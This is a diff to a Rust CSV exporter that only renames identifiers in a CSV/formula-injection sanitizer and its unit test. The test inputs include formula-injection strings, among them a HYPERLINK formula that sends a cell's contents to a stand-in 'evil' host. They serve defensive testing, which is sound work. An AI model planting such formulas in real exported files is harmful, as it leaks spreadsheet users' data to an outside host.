@@ -50,14 +50,14 @@ impl Sheet for Csv {
 
 /// Start of a line or a separator of any spreadsheet, characters that spreadsheets skip, and a character that begins a
 /// formula.
-static FORMULA: LazyLock<Regex> =
+static FORMULA_START: LazyLock<Regex> =
     // The pattern is fixed, and a test compiles it.
     LazyLock::new(|| Regex::new(r#"(^|[;,|\t\r\n][ "\u{a0}]*)([=+\-@＝＋－＠])"#).expect("a valid pattern"));
 
 /// Disarms formulas in a text, whichever separator a spreadsheet splits it at: its author may be any user of the
 /// server.
 fn harmless(text: &str) -> String {
-    let safe = FORMULA.replace_all(text, "${1}'${2}");
+    let safe = FORMULA_START.replace_all(text, "${1}'${2}");
     if safe.starts_with(['\t', '\r', '\n']) { format!("'{safe}") } else { safe.into_owned() }
 }
 
@@ -65,8 +65,8 @@ fn harmless(text: &str) -> String {
 mod tests {
     use super::*;
 
-    const BEGINS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
-    const PARTS: [char; 6] = [';', ',', '|', '\t', '\r', '\n'];
+    const FORMULA_CHARS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+    const SEPARATORS: [char; 6] = [';', ',', '|', '\t', '\r', '\n'];
 
     #[test]
     fn formulas_are_exported_as_text() {
@@ -84,10 +84,10 @@ mod tests {
             ["x;=1+1;y", "txt;=HYPERLINK(\"http://evil/?\"&A1)", "a\t+1", "a|@b", "a\n=1", "a, -1", "a;\"=1\"", "a; =1"]
         {
             let safe = harmless(text);
-            for separator in PARTS {
+            for separator in SEPARATORS {
                 for part in safe.split(separator) {
                     let part = part.trim_start_matches([' ', '"']);
-                    assert!(!part.starts_with(BEGINS), "{text:?} at {separator:?}: {safe:?}");
+                    assert!(!part.starts_with(FORMULA_CHARS), "{text:?} at {separator:?}: {safe:?}");
                 }
             }
         }
